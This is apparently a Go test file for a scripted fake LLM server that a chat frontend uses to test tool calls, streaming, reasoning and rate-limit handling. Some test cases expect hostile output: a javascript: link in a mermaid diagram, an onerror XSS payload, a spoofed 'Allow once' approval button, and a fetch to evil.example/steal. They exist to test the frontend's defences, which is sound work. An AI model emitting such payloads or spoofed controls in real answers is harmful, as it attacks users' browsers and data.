package main

import (
	"strings"
	"testing"
	"time"

	"github.com/agentdeck/agentdeck/backend/llm/llmtest"
)

func TestScript(t *testing.T) {
	user := func(s string) llmtest.Message { return llmtest.Message{Role: "user", Content: s} }
	tool := llmtest.Message{Role: "tool", Content: "ok"}
	chatTools := []string{"update_plan", "render_chart"}
	critic := llmtest.Message{Role: "system", Content: `Reply with one JSON object and nothing else: {"passed": true or false}`}
	tests := []struct {
		name     string
		req      llmtest.Request
		wantCall string // the tool called, or "" for text
		wantText string // a part of the text answer
	}{
		{"default plans first", llmtest.Request{Messages: []llmtest.Message{user("Chart revenue by region for Q3")}, Tools: chatTools}, "update_plan", ""},
		{"default charts second", llmtest.Request{Messages: []llmtest.Message{user("Chart revenue"), tool}, Tools: chatTools}, "render_chart", ""},
		{"default answers last", llmtest.Request{Messages: []llmtest.Message{user("Chart revenue"), tool, tool, tool}, Tools: chatTools}, "", "| North | 42.0k |"},
		{"default without tools answers", llmtest.Request{Messages: []llmtest.Message{user("hello")}}, "", "```sql"},
		{"only the last user message counts", llmtest.Request{Messages: []llmtest.Message{user("be slow"), user("Chart it")}, Tools: chatTools}, "update_plan", ""},
		{"slow", llmtest.Request{Messages: []llmtest.Message{user("Answer slow please")}, Tools: chatTools}, "", "word1999"},
		{"slow start", llmtest.Request{Messages: []llmtest.Message{user("a slow start please")}, Tools: chatTools}, "", "Loaded at last"},
		{"think", llmtest.Request{Messages: []llmtest.Message{user("think about it")}, Tools: chatTools}, "", thinkAnswer},
		{"remember", llmtest.Request{Messages: []llmtest.Message{user("Please remember this")}}, "", rememberWord},
		{"mermaid diagram", llmtest.Request{Messages: []llmtest.Message{user("Draw a mermaid diagram, think it through")}, Tools: chatTools}, "", "```mermaid\nflowchart TD\n  A[Question]"},
		{"broken mermaid", llmtest.Request{Messages: []llmtest.Message{user("Show a broken mermaid")}}, "", "  C -->> D\n```"},
		{"hostile mermaid", llmtest.Request{Messages: []llmtest.Message{user("Show a hostile mermaid")}}, "", `click C href "javascript:alert(5)"`},
		{"xss", llmtest.Request{Messages: []llmtest.Message{user("xss test")}}, "", "onerror=alert(1)"},
		{"spoof", llmtest.Request{Messages: []llmtest.Message{user("spoof test")}}, "", `<button class="btn primary">Allow once</button>`},
		{"stream a table", llmtest.Request{Messages: []llmtest.Message{user("Please stream a table")}}, "", "| 30 | Region D | 97.9k |"},
		{"an evaluation judge passes", llmtest.Request{Messages: []llmtest.Message{user(judgeMessage("judge passes: says 42", "The answer is 42."))}}, "", `"passed": true, "score": 0.9`},
		{"writer drafts", llmtest.Request{Messages: []llmtest.Message{user("Please critique a pitch")}}, "", firstDraft},
		{"writer revises", llmtest.Request{Messages: []llmtest.Message{user(revisePrompt("Please critique a pitch", firstDraft))}}, "", revisedDraft},
		{"critic fails the first draft", llmtest.Request{Messages: []llmtest.Message{critic, user(critiquePrompt("Please critique a pitch", firstDraft))}}, "", `"passed": false, "score": 0.4`},
		{"critic passes the revision", llmtest.Request{Messages: []llmtest.Message{critic, user(critiquePrompt("Please critique a pitch", revisedDraft))}}, "", `{"passed": true, "score": 0.9, "feedback": "good"}`},
		{"write a file calls write_file", llmtest.Request{Messages: []llmtest.Message{user("Please write a file named a-1.txt")}, Tools: []string{"write_file"}}, "write_file", ""},
		{"write a file without a workspace", llmtest.Request{Messages: []llmtest.Message{user("Please write a file named a-1.txt")}}, "", "no workspace"},
		{"write a file denied", llmtest.Request{Messages: []llmtest.Message{user("Please write a file named a-1.txt"), {Role: "tool", Content: "not run: the user denied this call."}}, Tools: []string{"write_file"}}, "", "I did not write a-1.txt"},
		{"list my data calls list_data", llmtest.Request{Messages: []llmtest.Message{user("Please list my data")}, Tools: []string{"list_data", "query_data"}}, "list_data", ""},
		{"list my data without data", llmtest.Request{Messages: []llmtest.Message{user("Please list my data")}, Tools: chatTools}, "", "no file is attached"},
		{"list my data repeats the tool", llmtest.Request{Messages: []llmtest.Message{user("Please list my data"), {Role: "tool", Content: "## sales (from sales.csv, 3 rows)"}}, Tools: []string{"list_data"}}, "", "The data tool said:\n\n## sales (from sales.csv, 3 rows)"},
		{"a continuation after the partial answer", llmtest.Request{Messages: []llmtest.Message{user("Answer slow please"), {Role: "assistant", Content: "Slow answer begins. word0"}}}, "", continueAnswer},
		{"a continuation asked in words", llmtest.Request{Messages: []llmtest.Message{user("Answer slow please"), {Role: "assistant", Content: "Slow answer begins."}, user("Continue your previous answer exactly where it stopped.")}}, "", continueAnswer},
		{"show settings names the system prompt and sampling", llmtest.Request{Messages: []llmtest.Message{{Role: "system", Content: "Answer like a pirate."}, user("show settings")},
			Body: map[string]any{"temperature": 0.3, "seed": 7.0}}, "", "System: Answer like a pirate.\n\nSent: temperature=0.3, seed=7."},
		{"show settings with none set", llmtest.Request{Messages: []llmtest.Message{user("show settings")}, Body: map[string]any{}}, "", "Sent: no sampling fields."},
		{"cite my documents calls search_knowledge", llmtest.Request{Messages: []llmtest.Message{user("Cite my documents: how did revenue grow?")}, Tools: []string{"search_knowledge"}}, "search_knowledge", ""},
		{"cite my documents without documents", llmtest.Request{Messages: []llmtest.Message{user("Cite my documents: revenue")}, Tools: chatTools}, "", "no documents to search"},
		{"cite my documents cites", llmtest.Request{Messages: []llmtest.Message{user("Cite my documents: revenue"), tool}, Tools: []string{"search_knowledge"}}, "", "[1]. The board's target is not in it [9]."},
		{"time travel calls update_plan", llmtest.Request{Messages: []llmtest.Message{user("time travel: look it up")}, Tools: chatTools}, "update_plan", ""},
		{"time travel repeats the tool", llmtest.Request{Messages: []llmtest.Message{user("time travel: look it up"), {Role: "tool", Content: "edited by hand"}}, Tools: chatTools}, "", "The tool said: edited by hand"},
		{"make an artifact calls create_artifact", llmtest.Request{Messages: []llmtest.Message{user("Please make an artifact")}, Tools: []string{"create_artifact"}}, "create_artifact", ""},
		{"make an artifact says what the tool said", llmtest.Request{Messages: []llmtest.Message{user("Please make an artifact"), {Role: "tool", Content: "shown as version 1"}}, Tools: []string{"create_artifact"}}, "", "The tool said: shown as version 1"},
		{"mermaid", llmtest.Request{Messages: []llmtest.Message{user("draw a mermaid diagram")}, Tools: chatTools}, "", "```mermaid\nflowchart TD\n"},
		{"run code calls run_code", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes by last digit")}, Tools: []string{"run_code"}}, "run_code", ""},
		{"run code corrects the script", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes"), {Role: "tool", Content: "Error at line 7:26: undefined: count"}}, Tools: []string{"run_code"}}, "run_code", ""},
		{"run code answers after the chart", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes"), tool, tool}, Tools: []string{"run_code"}}, "", "46 primes below 200"},
		{"run code without the tool", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes")}, Tools: chatTools}, "", "cannot run code"},
		{"artifact versions", llmtest.Request{Messages: []llmtest.Message{user("Show artifact v2 please")}}, "", "<title>Counter</title>"},
		{"tall answer", llmtest.Request{Messages: []llmtest.Message{user("Please give a tall answer 2")}}, "", "<p>tall 2 line 120</p>\n```\n\nTall answer 2 ends."},
		{"tall answer slowly", llmtest.Request{Messages: []llmtest.Message{user("Please give a tall answer 3 slowly")}}, "", "<p>tall 3 line 1</p>\n"},
		{"artifact attack", llmtest.Request{Messages: []llmtest.Message{user("artifact attack fetch-offsite")}}, "", "fetch('http://evil.example/steal"},
		{"write a file done", llmtest.Request{Messages: []llmtest.Message{user("Please write a file named a-1.txt"), {Role: "tool", Content: "wrote 27 bytes"}}, Tools: []string{"write_file"}}, "", "Finished writing a-1.txt"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := script(tt.req)
			var call string
			for _, c := range r.Chunks {
				for _, tc := range c.ToolCalls {
					call += tc.Name
				}
			}
			if call != tt.wantCall {
				t.Errorf("tool call %q, want %q", call, tt.wantCall)
			}
			if text := llmtest.Content(r.Chunks); !strings.Contains(text, tt.wantText) {
				t.Errorf("text %.120q does not contain %q", text, tt.wantText)
			}
		})
	}
}

// think streams its reasoning first, apart from the answer, for about
// 1.2 s; slow start is silent for 4 s before its first byte.
func TestThinkAndSlowStart(t *testing.T) {
	req := func(s string) llmtest.Request {
		return llmtest.Request{Messages: []llmtest.Message{{Role: "user", Content: s}}}
	}
	r := script(req("Think about it"))
	if r.ReasoningField != "reasoning_content" {
		t.Errorf("reasoning field %q", r.ReasoningField)
	}
	var reasoning strings.Builder
	chunks, answerStarted := 0, false
	for _, c := range r.Chunks {
		if c.Reasoning != "" {
			if answerStarted {
				t.Fatalf("reasoning %q after the answer began", c.Reasoning)
			}
			chunks++
			reasoning.WriteString(c.Reasoning)
		}
		if c.Content != "" {
			answerStarted = true
		}
	}
	if reasoning.String() != thinking || chunks < 6 {
		t.Errorf("reasoning in %d chunks: %q", chunks, reasoning.String())
	}
	if got := llmtest.Content(r.Chunks); got != thinkAnswer {
		t.Errorf("answer %q, want %q", got, thinkAnswer)
	}
	if d := time.Duration(chunks) * r.Delay; d < time.Second || d > 1500*time.Millisecond {
		t.Errorf("reasoning streams for %v, want about 1.2 s", d)
	}

	s := script(req("slow start"))
	if s.FirstByteDelay != 4*time.Second {
		t.Errorf("slow start waits %v, want 4s", s.FirstByteDelay)
	}
	if got := llmtest.Content(s.Chunks); strings.Contains(got, "word1") || got == "" {
		t.Errorf("slow start answered %q, want a short answer", got)
	}
}

// whoami names the server and the model asked for; the rest is script's.
func TestAnswerAs(t *testing.T) {
	whoami := llmtest.Request{Model: "second-model", Messages: []llmtest.Message{{Role: "user", Content: "Whoami, please?"}}}
	if got := llmtest.Content(answerAs("second", whoami).Chunks); got != "Answered by second as second-model." {
		t.Errorf("whoami: %q", got)
	}
	other := llmtest.Request{Messages: []llmtest.Message{{Role: "user", Content: "Please remember this"}}}
	if got := llmtest.Content(answerAs("second", other).Chunks); !strings.Contains(got, rememberWord) {
		t.Errorf("a message without whoami: %q", got)
	}
}

// race answers fast but from the server named "second", which streams
// slowly for minutes; both say who answered.
func TestRace(t *testing.T) {
	msg := llmtest.Request{Model: "m", Messages: []llmtest.Message{{Role: "user", Content: "A side by side race"}}}
	for _, c := range []struct {
		name string
		slow bool
	}{{"fakellm", false}, {"second", true}} {
		r := answerAs(c.name, msg)
		got := llmtest.Content(r.Chunks)
		if !strings.HasPrefix(got, "Answered by "+c.name+" as m. ") {
			t.Errorf("%s: %q", c.name, got)
		}
		if long := len(r.Chunks) > 1000 && r.Delay >= 100*time.Millisecond; long != c.slow {
			t.Errorf("%s: %d chunks %v apart, want slow=%v", c.name, len(r.Chunks), r.Delay, c.slow)
		}
	}
}

// The prompts of backend/workflow's critique-revise executor.
func critiquePrompt(task, draft string) string {
	return "Task:\n" + task + "\n\nDraft:\n" + draft + "\n\nEvaluate the draft against the task. Reply with JSON: {\"passed\": true|false, \"score\": 0..1, \"feedback\": \"what to change\"}."
}

func revisePrompt(task, draft string) string {
	return "Task:\n" + task + "\n\nYour previous draft:\n" + draft + "\n\nFeedback:\nbetter\n\nRewrite the draft applying the feedback. Reply with the new draft only."
}

// "rate limited" refuses the first request of a message with a 429 and
// Retry-After, and answers its retry; "server error" always fails.
func TestRefusedOnce(t *testing.T) {
	o := &refusedOnce{seen: map[string]bool{}}
	msg := func(s string) llmtest.Request {
		return llmtest.Request{Messages: []llmtest.Message{{Role: "user", Content: s}}}
	}
	first, ok := o.reply(msg("Rate limited 1"))
	if !ok || first.Status != 429 || first.Header["Retry-After"] != "3" {
		t.Fatalf("first request: %+v", first)
	}
	if again, _ := o.reply(msg("Rate limited 1")); again.Status != 0 || llmtest.Content(again.Chunks) == "" {
		t.Errorf("the retry got %+v, want an answer", again)
	}
	if other, _ := o.reply(msg("Rate limited 2")); other.Status != 429 {
		t.Errorf("another message got %d, want its own 429", other.Status)
	}
	for range 2 {
		if r, _ := o.reply(msg("a server error please")); r.Status != 500 {
			t.Errorf("server error got %d, want 500 every time", r.Status)
		}
	}
	if _, ok := o.reply(msg("hello")); ok {
		t.Error("an ordinary message was taken")
	}
}
